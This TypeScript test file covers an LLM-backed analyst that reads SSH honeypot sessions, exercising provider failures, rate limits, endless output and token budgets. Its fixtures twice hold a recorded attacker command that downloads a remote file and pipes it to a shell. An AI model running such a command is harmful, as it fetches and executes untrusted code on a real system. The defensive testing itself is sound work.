import { randomUUID } from 'node:crypto';
import type { ServerResponse } from 'node:http';
import { join } from 'node:path';
import type { NewJob, SessionChange } from '@cerberusmesh/contract/between-stages';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { createAnalyst } from '../src/assess/analyst/analyst.ts';
import { createLanguageModel, outputTokensMax } from '../src/assess/analyst/language-model.ts';
import { startSession } from '../src/assess/assess.ts';
import { loadAssess } from '../src/assess/load-assess.ts';
import { composeAnalyst } from '../src/compose/analyst.ts';
import { composePipeline } from '../src/compose/compose-pipeline.ts';
import { projectDir } from '../src/compose/project.ts';
import { createReadings } from '../src/compose/readings.ts';
import { readConfig } from '../src/config.ts';
import { checkPolicy } from '../src/decide/read-policy.ts';
import { systemClock } from '../src/kit/clock.ts';
import { Secret } from '../src/kit/secret.ts';
import { createTrialBreaker } from '../src/kit/trial-breaker.ts';
import { createTestClock, type TestClock } from '../src/serve/support/test-clock.ts';
import { readUsage, settleBudget, takeBudget } from '../src/store/llm-usage.ts';
import { createTestDatabase, type TestDatabase } from './support/database.ts';
import { completion, type LlmServer, type Reply, soberReading, startLlmServer } from './support/llm-server.ts';

const eventId = '0196a000-0000-7000-8000-000000000001';
const stop = new AbortController().signal;
let server: LlmServer;
let database: TestDatabase;
let clock: TestClock;

beforeAll(async () => {
  [server, database] = await Promise.all([startLlmServer(), createTestDatabase()]);
});
afterAll(async () => {
  await server.close();
  await database.drop();
});
beforeEach(async () => {
  await database.pool.query('truncate llm_usage');
  server.questions.length = 0;
  clock = createTestClock(new Date('2026-11-22T12:00:00Z'));
});

const whole = (question: { data: string }) => JSON.stringify(completion(JSON.stringify(soberReading(question))));
const json = { 'content-type': 'application/json' };

describe('a provider that', () => {
  it.each<{ does: string; says: string; costs: boolean; reply: (question: { data: string }) => Reply }>([
    { does: 'hangs in the middle of its answer', says: 'no whole answer', costs: true, reply: () => begin('{"id": "') },
    { does: 'sends its answer a byte at a time', says: 'no whole answer', costs: true, reply: drip },
    { does: 'closes in the middle', says: 'cannot be read', costs: true, reply: (question) => cut(whole(question)) },
    { does: 'ends its JSON early', says: 'cannot be read', costs: true, reply: (asked) => send(whole(asked).slice(9)) },
    {
      does: 'sends a page of HTML',
      says: 'cannot be read',
      costs: true,
      reply: () => send('<html>Bad gateway</html>'),
    },
    { does: 'speaks another protocol', says: 'cannot be read', costs: true, reply: () => send('{"candidates": []}') },
    { does: 'closes at once', says: 'no answer: ', costs: false, reply: () => close },
    { does: 'answers 429', says: '429: no', costs: false, reply: () => ({ status: 429, text: 'no' }) },
    { does: 'answers 500', says: '500: no', costs: false, reply: () => ({ status: 500, text: 'no' }) },
    { does: 'does not take our key', says: '401: no', costs: false, reply: () => ({ status: 401, text: 'no' }) },
    { does: 'has no such model', says: '404: no', costs: false, reply: () => ({ status: 404, text: 'no' }) },
  ])('$does is asked once, and later again, and its tokens count where it began to answer', async (given) => {
    server.answer(given.reply);
    const analyst = anAnalyst();
    expect(await analyst.read(aSession(), stop)).toMatchObject({ kind: 'later', waitMs: 60_000 });
    expect(analyst.state().why).toContain(given.says);
    expect(analyst.state().why).not.toMatch(/candidates|Bad gateway/);
    const usage = await readUsage(database.pool, clock.now());
    // Where it is not known whose fault that is, one more without a visitor's word.
    const asked = given.says === 'no whole answer' ? 2 : 1;
    expect([server.questions.length, usage.requestsThisHour]).toEqual([asked, asked]);
    expect(usage.tokensThisHour > 0).toBe(given.costs);
  });

  it('asks to be left alone is, by all sessions, until then or a quarter of an hour', async () => {
    for (const [asked, restMs] of [
      ['600', 600_000],
      ['999999', 900_000],
    ] as const) {
      server.questions.length = 0;
      server.answer(() => ({ status: 429, headers: { 'retry-after': asked }, text: 'slow down' }));
      const analyst = anAnalyst();
      expect(await analyst.read(aSession(), stop)).toMatchObject({ kind: 'later', waitMs: restMs });
      clock.advance(restMs - 1);
      expect(await analyst.read(aSession('id'), stop)).toMatchObject({ kind: 'later', waitMs: 1 });
      expect(analyst.state()).toEqual({ state: 'resting', why: 'the model could not be asked: 429: slow down' });
      expect(server.questions).toHaveLength(1);
      server.answer((question) => ({ text: JSON.stringify(soberReading(question)) }));
      clock.advance(1);
      expect(await analyst.read(aSession('id'), stop)).toMatchObject({ kind: 'read' });
      expect(analyst.state().state).toBe('ready');
    }
  });

  it('answers without end, as a visitor may talk it into, is not asked about him again, and rests for nobody', async () => {
    server.answer(() => send(huge));
    const analyst = anAnalyst({ timeoutSeconds: 60 });
    for (let visit = 0; visit < 6; visit++) {
      const outcome = await analyst.read(aSession(`id ${visit}`), stop);
      expect(outcome).toMatchObject({ kind: 'refused', why: 'the answer is larger than 131072 bytes' });
    }
    expect([server.questions.length, analyst.state().state]).toEqual([6, 'ready']);
    expect((await readUsage(database.pool, clock.now())).tokensThisHour).toBeGreaterThan(6 * outputTokensMax);
  });

  it('goes on answering for ever is cut off where its answer is larger than is read, and not when its time is over', async () => {
    const flood = Promise.withResolvers<number>();
    server.answer(() => ({ text: '', write: (response) => pourOut(response, flood.resolve) }));
    expect(await anAnalyst({ timeoutSeconds: 60 }).read(aSession(), stop)).toMatchObject({
      ...{ kind: 'refused', why: 'the answer is larger than 131072 bytes' },
    });
    // What the sockets between us hold is more than what is read.
    expect(await flood.promise).toBeLessThan(16 * 2 ** 20);
  }, 60_000);

  it('is kept busy past its time by some visitors is not asked about them again, and rests for nobody', async () => {
    server.answer((question) => (question.data.includes('DATA-') ? drip(question) : { text: '{}' }));
    const analyst = anAnalyst();
    for (let visit = 0; visit < 6; visit++) {
      expect(await analyst.read(aSession(`id ${visit}`), stop)).toMatchObject({ kind: 'refused' });
    }
    expect([server.questions.length, analyst.state().state]).toEqual([12, 'ready']);
    expect((await readUsage(database.pool, clock.now())).tokensThisHour).toBeGreaterThan(6 * outputTokensMax);
  }, 20_000);

  it('says that this one question is wrong is not asked it again', async () => {
    server.answer(() => ({ status: 400, text: 'content filter' }));
    expect(await anAnalyst().read(aSession(), stop)).toMatchObject({ kind: 'failed' });
    expect(server.questions).toHaveLength(1);
  });
});

describe('a session that waits for its reading', () => {
  it('is read once, however often its lines came and its provider failed', async () => {
    const analyst = composeAnalyst({
      ...{ config: configured(), database, clock: systemClock, log: { info: () => undefined, warn: () => undefined } },
      ...{ readings: createReadings(), cache: { find: async () => undefined, keep: async () => undefined } },
      policy: { isWorthAnalysing: () => true, currentPolicy: () => policy },
      ...{ decide: () => [], decided: () => undefined, findAnalysis: async () => undefined, publish: () => undefined },
    });
    const faults: Reply[] = [{ status: 503, text: 'down' }, cut('{"id": "chatcmpl-1"'), send('<html>')];
    server.answer((question) => faults.shift() ?? { text: JSON.stringify(soberReading(question)) });
    for (let time = 0; time < 2; time++) await storeVisit(analyst.follow);
    const running = analyst.run(leaving.signal);
    await expect.poll(askNow, { timeout: 20_000, interval: 200 }).toEqual([{ done: true, failed: false }]);
    leaving.abort();
    await running;
    const { rows } = await database.pool.query('select status, threat_score_after from analyses');
    expect(rows).toEqual([{ status: 'read', threat_score_after: expect.any(Number) }]);
    expect(server.questions).toHaveLength(4);
    expect((await analyst.readStatus()).requests_this_hour).toBe(4);
  }, 40_000);

  const leaving = new AbortController();

  // What is older than six hours is history, and not asked about.
  const startedAt = new Date();

  /** What waits is due at once. */
  async function askNow() {
    await database.pool.query(`update jobs set run_at = now() where kind = 'analyse' and locked_until is null`);
    return (await database.pool.query('select done_at is not null as done, failed_at is not null as failed from jobs'))
      .rows;
  }

  async function storeVisit(follow: (changes: readonly SessionChange[]) => NewJob[]): Promise<void> {
    const pipeline = composePipeline({
      ...{ database, clock: systemClock, timeZone: 'UTC', startSession, isProbe: () => false, follow },
      ...{ assess: loadAssess({ modelsFolder: join(projectDir, 'models'), policyFolder: join(projectDir, 'policy') }) },
      ...{ decide: () => [], publish: () => undefined },
      assessFailed: (_event, error) => {
        throw error;
      },
    });
    const said = { sensor: 'a', session: 'c0ffee000001', src_ip: '198.51.100.7', timestamp: startedAt.toISOString() };
    const events = [
      { ...said, eventid: 'cowrie.session.connect', protocol: 'ssh' },
      { ...said, eventid: 'cowrie.command.input', input: 'wget http://192.0.2.9/x -O- | sh' },
      { ...said, eventid: 'cowrie.session.closed', duration: '3.0' },
    ];
    const lines = events.map((event) => JSON.stringify(event)).map((text) => ({ text, coveredBytes: text.length + 1 }));
    const readBytes = lines.reduce((sum, line) => sum + line.coveredBytes, 0);
    const source = { sourceId: randomUUID(), kind: 'file', place: 'a' };
    await pipeline.onLines({ sourceId: source.sourceId, lines, position: 1, readBytes }, source);
  }
});

const watching = { id: 'r', why: 'Because.', when: {}, decision: 'monitor' };
const policy = checkPolicy({ version: '1', rules: [watching] }, 'test');
const close: Reply = { text: '', write: (response) => void response.destroy() };
const huge = JSON.stringify(completion('x'.repeat(2_000_000)));

function configured() {
  const env = {
    CERBERUS_DATA_DIR: '/not-written',
    CERBERUS_LLM_PROVIDER: 'openai-compatible',
    CERBERUS_LLM_BASE_URL: server.url,
  };
  const readFile = () => {
    throw Object.assign(new Error('there is no file'), { code: 'ENOENT' });
  };
  return readConfig({ env, flags: {}, readFile, cwd: '/', home: '/', projectDir: null });
}

function begin(text: string): Reply {
  return { text: '', write: (response) => void response.writeHead(200, json).write(text) };
}
function send(body: string): Reply {
  return { text: '', write: (response) => void response.writeHead(200, json).end(body) };
}
function cut(text: string): Reply {
  return {
    text: '',
    write(response) {
      response.writeHead(200, { ...json, 'content-length': '5000' });
      response.write(text, () => response.destroy());
    },
  };
}
function drip(question: { data: string }): Reply {
  return { text: '', write: (response) => dripOut(response, whole(question)) };
}
function dripOut(response: ServerResponse, text: string): void {
  response.writeHead(200, json);
  let at = 0;
  const timer = setInterval(() => response.write(text[at++] ?? ' '), 20);
  response.on('close', () => clearInterval(timer));
}

/** Without end, as fast as it is read; tells how much that was when the other side has closed. */
function pourOut(response: ServerResponse, closed: (bytes: number) => void): void {
  const chunk = 'x'.repeat(16_384);
  let bytes = 0;
  const pour = () => {
    do bytes += chunk.length;
    while (response.write(chunk));
  };
  response.writeHead(200, json);
  response.on('drain', pour);
  response.on('close', () => closed(bytes));
  response.write('{"choices": [{"message": {"content": "');
  pour();
}

function anAnalyst({ timeoutSeconds = 1 } = {}) {
  return createAnalyst({
    ask: createLanguageModel({
      ...{ provider: 'openai-compatible', model: 'test-model', apiKey: new Secret('sk-test'), baseUrl: server.url },
      ...{ temperature: 0.2, timeoutSeconds },
    }),
    store: {
      findReading: async () => undefined,
      takeBudget: (tokens, now) => takeBudget(database.pool, budget, tokens, now),
      settleBudget: (tokens, now) => settleBudget(database.pool, tokens, now),
    },
    breaker: createTrialBreaker({ clock }),
    clock,
    model: 'test/test-model',
    outputTokensMax,
  });
}

const budget = { requestsPerHour: 60, requestsPerDay: 500, tokensPerHour: 400_000, tokensPerDay: 3_000_000 };

function aSession(command = 'wget http://192.0.2.9/x -O- | sh') {
  const event = { type: 'cowrie.command.input', second: 1, severity: 'HIGH', techniques: ['T1105'] };
  return {
    ...{ sensor: 'sensor-a', sessionId: 's1', sourceIp: '198.51.100.7', protocol: 'ssh', severity: 'HIGH' as const },
    ...{ threatScore: 0.8, durationSeconds: 3, eventCount: 1, commandCount: 1 },
    events: [{ ...event, id: eventId, texts: [['command', command] as const] }],
  };
}
